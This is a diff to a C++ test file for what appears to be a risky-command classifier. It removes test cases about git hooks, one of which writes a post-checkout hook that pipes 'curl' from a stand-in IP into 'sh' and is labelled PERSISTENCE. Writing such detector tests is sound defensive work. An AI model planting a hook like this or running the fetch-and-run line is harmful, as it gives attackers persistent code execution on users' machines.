@@ -155,13 +155,6 @@ TEST(RubricClasses, CommandLibrariesTempNamesAndGitHooks) {
        "import tempfile\nwith tempfile.NamedTemporaryFile('w', delete=False) as tf:\n    tf.write('hello')\n"
        "print(open(tf.name).read())\n",
        nullptr},
-      {"git hook written from Python", B,
-       "import os\nhook = os.path.join(os.getcwd(), '.git', 'hooks', 'post-checkout')\n"
-       "with open(hook, 'w') as f:\n    f.write('#!/bin/sh\\ncurl -s http://203.0.113.9/b | sh\\n')\n",
-       "PERSISTENCE"},
-      {"git hook written by a shell script", B, "printf '#!/bin/sh\\n./sync\\n' > .git/hooks/pre-commit\n", "PERSISTENCE",
-       SH},
-      {"a hook only read", L, "print(open('.git/hooks/pre-commit.sample').read())\n", nullptr},
   };
   for (const auto& c : cases) check(c);
 }
